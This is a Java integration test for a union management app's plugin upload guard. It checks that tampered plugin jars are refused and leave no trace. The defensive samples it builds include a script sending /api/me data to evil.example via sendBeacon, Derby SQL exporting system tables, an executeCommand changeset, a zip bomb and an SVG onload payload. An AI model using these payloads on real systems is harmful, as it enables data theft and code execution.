package cn.edu.cumt.union.itests;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertNull;
import static org.junit.Assert.assertTrue;
import static org.ops4j.pax.exam.CoreOptions.systemProperty;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Paths;
import java.time.Duration;
import java.util.Map;
import java.util.jar.JarEntry;
import java.util.jar.JarInputStream;
import java.util.jar.JarOutputStream;

import org.junit.Test;
import org.junit.runner.RunWith;
import org.ops4j.pax.exam.Option;
import org.ops4j.pax.exam.junit.PaxExam;
import org.ops4j.pax.exam.spi.reactors.ExamReactorStrategy;
import org.ops4j.pax.exam.spi.reactors.PerClass;

import com.fasterxml.jackson.databind.JsonNode;

import cn.edu.cumt.union.itests.fence.FileReader;
import cn.edu.cumt.union.itests.fence.NativeSql;
import cn.edu.cumt.union.itests.fence.ShellCommand;

/**
 * The fence around a unit plugin's contents, over HTTP as the unit's administrator: the archetype's
 * plugin with an attack added (a class that runs commands or reads files, a nested jar and native
 * code, a JAX-RS extension component, a zip bomb) is refused with 400 and its reasons, and nothing
 * of it is installed or kept; the shipped example plugin familyday is accepted.
 */
@RunWith(PaxExam.class)
@ExamReactorStrategy(PerClass.class)
public class UnitPluginFenceIT extends UnionKarafTestSupport {

    private static final String OUTING_JAR = "union.itests.outing-jar";
    private static final String FAMILYDAY_JAR = "union.itests.familyday-jar";
    private static final String OUTING_BSN = "cn.edu.cumt.union.unit.mining.outing";
    private static final Duration SERVE_TIMEOUT = Duration.ofSeconds(60);

    @Override
    protected Option[] extraOptions() {
        return new Option[] { systemProperty(OUTING_JAR).value(Distribution.outingJar().toString()),
                systemProperty(FAMILYDAY_JAR).value(Distribution.familydayJar().toString()) };
    }

    @Test
    public void attacksAreRefusedAndNothingOfThemStays() throws Exception {
        awaitStatus("/api/health", 200, BOOT_TIMEOUT);
        Rest operator = asAdmin();
        Rest miningAdmin = miningAdmin(operator, "UF0001,张围,M,1980-01-01,13900000201,uf1@cumt.edu.cn,MINING,ACTIVE,\n");
        byte[] outing = Files.readAllBytes(Paths.get(System.getProperty(OUTING_JAR)));
        int bundlesBefore = bundleContext.getBundles().length;

        byte[] commands = withEntries(outing, Map.of(classEntry(ShellCommand.class), classBytes(ShellCommand.class),
                classEntry(FileReader.class), classBytes(FileReader.class)));
        String reasons = refused(miningAdmin, commands);
        assertTrue(reasons, reasons.contains(ShellCommand.class.getName() + " -> java.lang.Runtime#exec"));
        assertTrue(reasons, reasons.contains(FileReader.class.getName() + " -> java.nio.file.Files#readAllBytes"));
        assertTrue(reasons, reasons.contains(FileReader.class.getName() + " -> java.lang.System#getProperty"));

        byte[] nested = withEntries(outing, Map.of("lib/helper.jar", outing, "native/libhelper.so", new byte[] { 0x7f, 'E', 'L', 'F' }));
        reasons = refused(miningAdmin, nested);
        assertTrue(reasons, reasons.contains("another archive: lib/helper.jar"));
        assertTrue(reasons, reasons.contains("native code: native/libhelper.so"));

        String filter = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                + "<scr:component xmlns:scr=\"http://www.osgi.org/xmlns/scr/v1.4.0\" name=\"Sniffer\">\n"
                + "  <implementation class=\"cn.edu.cumt.union.plugin.outing.internal.ActivityResource\"/>\n"
                + "  <service><provide interface=\"cn.edu.cumt.union.plugin.outing.internal.ActivityResource\"/></service>\n"
                + "  <property name=\"osgi.jaxrs.extension\" type=\"Boolean\" value=\"true\"/>\n"
                + "</scr:component>\n";
        byte[] extension = withEntries(outing, Map.of("OSGI-INF/sniffer.xml", filter.getBytes(StandardCharsets.UTF_8)));
        reasons = refused(miningAdmin, extension);
        assertTrue(reasons, reasons.contains("the component Sniffer (OSGI-INF/sniffer.xml) may not set the property osgi.jaxrs.extension=true"));

        byte[] bomb = withEntries(outing, Map.of("db/padding.txt", new byte[0]), 300 << 20);
        assertTrue("a bomb that fits in an upload", bomb.length < 5 << 20);
        reasons = refused(miningAdmin, bomb);
        assertTrue(reasons, reasons.contains("db/padding.txt inflates to 314572800 bytes"));

        assertEquals("a refused upload left a bundle behind", bundlesBefore, bundleContext.getBundles().length);
        assertNull(bundle(OUTING_BSN));
        assertFalse("nothing kept on disk", Files.exists(Paths.get(System.getProperty("karaf.data"), "union", "plugins", "outing")));
        assertFalse(operator.get("/api/plugins").body().contains("\"outing\""));

        // The shipped example, written the way a plugin author should, goes through.
        byte[] familyday = Files.readAllBytes(Paths.get(System.getProperty(FAMILYDAY_JAR)));
        Rest.Reply installed = miningAdmin.uploadForm("/api/plugins", "file", "familyday.jar", familyday);
        assertEquals(installed.toString(), 201, installed.status());
        await("familyday answers", SERVE_TIMEOUT, () -> miningAdmin.get("/api/familyday/activities").status() == 200);
        assertEquals(200, miningAdmin.delete("/api/plugins/familyday").status());
    }

    /**
     * The unit's own database is no sandbox by itself: Derby's routines write files and call Java.
     * A changelog or persistence unit that reaches for them, or for the core's database, is refused
     * before anything runs, and no file and no database of the plugin appear.
     */
    @Test
    public void databaseAttacksAreRefusedBeforeAnythingRuns() throws Exception {
        awaitStatus("/api/health", 200, BOOT_TIMEOUT);
        Rest operator = asAdmin();
        Rest miningAdmin = miningAdmin(operator, "UF0002,张库,M,1980-01-01,13900000202,uf2@cumt.edu.cn,MINING,ACTIVE,\n");
        byte[] outing = Files.readAllBytes(Paths.get(System.getProperty(OUTING_JAR)));
        java.nio.file.Path data = Paths.get(System.getProperty("karaf.data"));
        java.nio.file.Path stolen = data.resolve("stolen.csv");
        java.nio.file.Path owned = data.resolve("owned");

        String export = "<sql>CALL SYSCS_UTIL.SYSCS_EXPORT_TABLE('SYS', 'SYSTABLES', '" + stolen.toString().replace('\\', '/')
                + "', null, null, null)</sql>";
        String reasons = refused(miningAdmin, withChangeSet(outing, export));
        assertTrue(reasons, reasons.contains("<sql> is not allowed"));
        assertTrue(reasons, reasons.contains("(changeSet evil-1)"));

        String function = "<sql>CREATE FUNCTION HALT(CODE INT) RETURNS INT LANGUAGE JAVA PARAMETER STYLE JAVA NO SQL"
                + " EXTERNAL NAME 'java.lang.System.exit'</sql>";
        reasons = refused(miningAdmin, withChangeSet(outing, function));
        assertTrue(reasons, reasons.contains("<sql> is not allowed"));

        String command = "<executeCommand executable=\"/bin/touch\"><arg value=\"" + owned + "\"/></executeCommand>";
        reasons = refused(miningAdmin, withChangeSet(outing, command));
        assertTrue(reasons, reasons.contains("<executeCommand> is not allowed"));

        String load = "<loadData tableName=\"OUTING_ACTIVITY\" file=\"" + System.getProperty("karaf.etc") + "/users.properties\"/>";
        reasons = refused(miningAdmin, withChangeSet(outing, load));
        assertTrue(reasons, reasons.contains("<loadData> is not allowed"));

        String substituted = "<createTable tableName=\"${user.name}\"><column name=\"A\" type=\"INT\"/></createTable>";
        reasons = refused(miningAdmin, withChangeSet(outing, substituted));
        assertTrue(reasons, reasons.contains("property substitution"));

        byte[] coreDatabase = PluginJars.variant(outing, Map.of(), Map.of("META-INF/persistence.xml",
                xml -> xml.replace("union-plugin-outing", "union")));
        reasons = refused(miningAdmin, coreDatabase);
        assertTrue(reasons, reasons.contains("may only use osgi:service/javax.sql.DataSource/(osgi.jndi.service.name=union-plugin-outing)"));

        byte[] coreUnit = PluginJars.variant(outing, Map.of(), Map.of("META-INF/persistence.xml",
                xml -> xml.replace("name=\"union-outing\"", "name=\"union-core\"")));
        reasons = refused(miningAdmin, coreUnit);
        assertTrue(reasons, reasons.contains("must be named union-outing, not union-core"));

        byte[] nativeSql = withEntries(outing, Map.of(classEntry(NativeSql.class), classBytes(NativeSql.class)));
        reasons = refused(miningAdmin, nativeSql);
        assertTrue(reasons, reasons.contains(NativeSql.class.getName() + " -> javax.persistence.EntityManager#createNativeQuery"));

        assertFalse("Derby exported a table", Files.exists(stolen));
        assertFalse("a command ran", Files.exists(owned));
        assertFalse("no database was made for a refused plugin", Files.exists(data.resolve("union/plugin-databases/outing")));
        assertNull(bundle(OUTING_BSN));
        assertEquals(200, operator.get("/api/me").status());
    }

    /**
     * A unit plugin's pages are data the app draws as text: a script, a page, an SVG or any other file
     * for the web app, or a page declaration that brings script or leaves the plugin's API, is refused
     * at upload with each reason, and nothing of it is installed or listed.
     */
    @Test
    public void webPagesThatCouldRunScriptAreRefused() throws Exception {
        awaitStatus("/api/health", 200, BOOT_TIMEOUT);
        Rest operator = asAdmin();
        Rest miningAdmin = miningAdmin(operator, "UF0003,张页,M,1980-01-01,13900000203,uf3@cumt.edu.cn,MINING,ACTIVE,\n");
        byte[] outing = Files.readAllBytes(Paths.get(System.getProperty(OUTING_JAR)));
        int bundlesBefore = bundleContext.getBundles().length;

        byte[] scripts = withEntries(outing, Map.of(
                "UI-INF/pages/steal.js", "fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))"
                        .getBytes(StandardCharsets.UTF_8),
                "UI-INF/index.html", "<script src=\"pages/steal.js\"></script>".getBytes(StandardCharsets.UTF_8),
                "UI-INF/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(StandardCharsets.UTF_8)));
        String reasons = refused(miningAdmin, scripts);
        for (String file : new String[] { "UI-INF/pages/steal.js", "UI-INF/index.html", "UI-INF/logo.svg" }) {
            assertTrue(reasons, reasons.contains(file + ": a unit plugin may have only pages.json under UI-INF/"));
        }

        String module = "{\"title\":{\"zh\":\"远足\",\"en\":\"Outing\"},\"pages\":[{\"id\":\"x\",\"kind\":\"module\","
                + "\"roles\":[\"member\"],\"module\":\"pages/x.js\"},{\"id\":\"y\",\"kind\":\"detail\",\"roles\":[\"member\"],"
                + "\"source\":\"../../auth/session\",\"fields\":[{\"field\":\"a\",\"label\":{\"zh\":\"甲\",\"en\":\"A\"}}]}]}";
        reasons = refused(miningAdmin, withEntries(outing, Map.of("UI-INF/pages.json", module.getBytes(StandardCharsets.UTF_8))));
        assertTrue(reasons, reasons.contains("a unit plugin may declare data pages only, no script (module)"));
        assertTrue(reasons, reasons.contains("$.pages[1].source: must be a path relative to /api/<plugin-id>/"));

        assertEquals("a refused upload left a bundle behind", bundlesBefore, bundleContext.getBundles().length);
        assertNull(bundle(OUTING_BSN));
        assertFalse(operator.get("/api/plugins").body().contains("\"outing\""));
        assertFalse(operator.get("/api/ui/pages").body().contains("\"outing\""));
    }

    /** Makes the member of this CSV row (in MINING) an administrator of MINING and logs them in. */
    private Rest miningAdmin(Rest operator, String memberRow) {
        long mining = Fixtures.unit(operator, "MINING");
        Fixtures.importMembers(operator, memberRow);
        return withToken(login(Fixtures.account(operator, memberRow.substring(0, memberRow.indexOf(',')), mining), Fixtures.PASSWORD));
    }

    /** The plugin with one more change set in its changelog. */
    private static byte[] withChangeSet(byte[] jar, String changes) {
        return PluginJars.variant(jar, Map.of(), Map.of("db/changelog.xml", xml -> xml.replace("</databaseChangeLog>",
                "  <changeSet id=\"evil-1\" author=\"MINING\">" + changes + "</changeSet>\n</databaseChangeLog>")));
    }

    private static String refused(Rest admin, byte[] jar) {
        Rest.Reply reply = admin.uploadForm("/api/plugins", "file", "outing.jar", jar);
        assertEquals(reply.toString(), 400, reply.status());
        JsonNode json = reply.json();
        assertEquals(reply.toString(), "plugin.refused", json.path("code").asText());
        return json.path("details").toString();
    }

    private static String classEntry(Class<?> type) {
        return type.getName().replace('.', '/') + ".class";
    }

    private static byte[] classBytes(Class<?> type) throws IOException {
        try (InputStream in = type.getClassLoader().getResourceAsStream(classEntry(type))) {
            return in.readAllBytes();
        }
    }

    private static byte[] withEntries(byte[] jar, Map<String, byte[]> added) throws IOException {
        return withEntries(jar, added, 0);
    }

    /** The jar with more (or replaced) entries; with {@code zeros > 0} every added entry holds that many zero bytes, deflated. */
    private static byte[] withEntries(byte[] jar, Map<String, byte[]> added, int zeros) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (JarInputStream in = new JarInputStream(new ByteArrayInputStream(jar));
                JarOutputStream out = new JarOutputStream(bytes, in.getManifest())) {
            JarEntry entry;
            while ((entry = in.getNextJarEntry()) != null) {
                if (added.containsKey(entry.getName())) {
                    continue; // replaced
                }
                out.putNextEntry(new JarEntry(entry.getName()));
                in.transferTo(out);
                out.closeEntry();
            }
            for (Map.Entry<String, byte[]> extra : added.entrySet()) {
                out.putNextEntry(new JarEntry(extra.getKey()));
                if (zeros > 0) {
                    byte[] block = new byte[1 << 16];
                    for (int written = 0; written < zeros; written += block.length) {
                        out.write(block);
                    }
                } else {
                    out.write(extra.getValue());
                }
                out.closeEntry();
            }
        }
        return bytes.toByteArray();
    }
}
